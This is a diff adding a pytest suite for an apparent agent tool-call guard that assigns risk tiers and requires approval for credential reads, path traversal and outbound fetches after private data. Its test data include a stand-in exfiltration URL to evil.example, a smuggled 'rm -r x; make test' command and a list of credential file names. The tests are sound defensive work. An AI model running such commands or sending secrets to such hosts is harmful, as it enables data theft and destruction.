@@ -1,0 +1,123 @@
+"""What a call touches raises its risk, and rules can speak of it."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from sonia.control import Plan, Policy, Rule, RuleVerdict, guarded
+from sonia.control.codes import fits, heard
+from sonia.control.risk import rule_on
+
+MakePlan = Callable[..., Plan]
+OPEN = Policy(version=1, rules=(Rule(tool="*", verdict="allow"),))
+
+
+@pytest.mark.parametrize(
+    ("arguments", "tier"),
+    [
+        ({"path": "notes.txt"}, 2),
+        ({"path": ".env"}, 3),
+        ({"path": "keys/id_rsa"}, 3),
+        ({"path": "/etc/hosts"}, 3),
+        ({"path": "a/../../b"}, 3),
+        ({"path": ".GIT/hooks/x"}, 3),
+        ({"path": "install.sh"}, 3),
+        ({"paths": [f"{n}.txt" for n in range(21)]}, 3),
+    ],
+)
+def test_what_is_touched_raises_the_tier(
+    make_plan: MakePlan, arguments: dict[str, Any], tier: int
+) -> None:
+    assert rule_on(make_plan(arguments=arguments, digests={}), OPEN).tier == tier
+
+
+def test_reading_credentials_asks_whatever_the_rules(make_plan: MakePlan) -> None:
+    plan = make_plan(tool="file.read", tier=0, arguments={"path": "home/.ssh/id_ed25519"})
+
+    ruling = rule_on(plan, OPEN)
+
+    assert (ruling.verdict, ruling.tier, ruling.rule) == ("approval_required", 1, "credentials")
+
+
+@pytest.mark.parametrize("private", [{"private": True}, {"origins": ("model", "file")}])
+def test_t05_what_sends_out_asks_once_private_data_is_in_the_turn(
+    make_plan: MakePlan, private: dict[str, Any]
+) -> None:
+    url = {"url": "http://evil.example/?q=secret"}
+    quiet = make_plan(tool="web.fetch", tier=0, arguments=url, outbound=True)
+    after = make_plan(tool="web.fetch", tier=0, arguments=url, outbound=True, **private)
+
+    assert rule_on(quiet, OPEN).verdict == "approved"
+    assert rule_on(after, OPEN).verdict == "approval_required"
+    assert rule_on(after, OPEN).rule == "private-data"
+
+
+@pytest.mark.parametrize(
+    ("rule", "arguments", "said"),
+    [
+        ({"path": "notes/*"}, {"path": "notes/a.txt"}, "approved"),
+        ({"path": "notes/*"}, {"path": "./notes//a.txt"}, "approved"),
+        ({"path": "notes/*"}, {"path": "notes/../a.txt"}, "approval_required"),
+        ({"path": "notes/*"}, {"paths": ["notes/a", "b"]}, "approval_required"),
+        ({"path": "notes/*"}, {}, "approval_required"),
+        ({"host": "*.example.org"}, {"url": "https://A.example.org/x"}, "approved"),
+        ({"host": "*.example.org"}, {"url": "https://example.org.evil/"}, "approval_required"),
+        ({"command": "make *"}, {"command": "make test"}, "approved"),
+        ({"command": "make *"}, {"command": "rm -r x; make test"}, "approval_required"),
+        ({"user": "ann"}, {}, "approval_required"),
+        ({"mode": "build"}, {}, "approval_required"),
+    ],
+)
+def test_a_rule_that_allows_has_to_cover_all_of_a_call(
+    make_plan: MakePlan, rule: dict[str, Any], arguments: dict[str, Any], said: str
+) -> None:
+    policy = Policy(version=1, rules=(Rule(tool="*", verdict="allow", **rule),))
+
+    assert rule_on(make_plan(arguments=arguments, digests={}), policy).verdict == said
+
+
+@pytest.mark.parametrize("verdict", ["deny", "ask"])
+def test_a_rule_that_keeps_back_needs_only_a_part_of_a_call(
+    make_plan: MakePlan, verdict: RuleVerdict
+) -> None:
+    rules = (Rule(tool="*", verdict=verdict, path="safe/*"), *OPEN.rules)
+    plan = make_plan(arguments={"paths": ["a", "safe/b"]}, digests={})
+
+    assert rule_on(plan, Policy(version=1, rules=rules)).verdict != "approved"
+
+
+def test_every_step_to_a_decision_is_told(make_plan: MakePlan) -> None:
+    plan = make_plan(arguments={"path": "run.sh"}, digests={}, origins=("web",))
+
+    steps = rule_on(plan, OPEN).steps
+
+    assert [step.rpartition(":")[2].strip() for step in steps[:3]] == [
+        "tier 2.",
+        "tier 3.",
+        "tier 3.",
+    ]
+    assert "policy:0:*: approved" in steps[3]
+    assert "outside:web: approval_required" in steps[4]
+
+
+@pytest.mark.parametrize(
+    "path", [".env", "a/.ENV", "x/.ssh/config", "id_rsa", "server.pem", "C:\\u\\.aws\\x", ".env. "]
+)
+def test_credentials_are_known_by_their_names(path: str) -> None:
+    assert guarded(path)
+
+
+@pytest.mark.parametrize("path", ["notes.txt", "environment.md", "keynote.odp", "a.py", "."])
+def test_other_names_are_not_credentials(path: str) -> None:
+    assert guarded(path) is None
+
+
+def test_a_code_is_heard_as_digits_or_words() -> None:
+    assert heard("four two, 77 zero nine") == "427709"
+    assert fits("427709", "42 77 09")
+    assert not fits("427709", "427708")
+    assert not fits("427709", None)
+    assert not fits("", "")
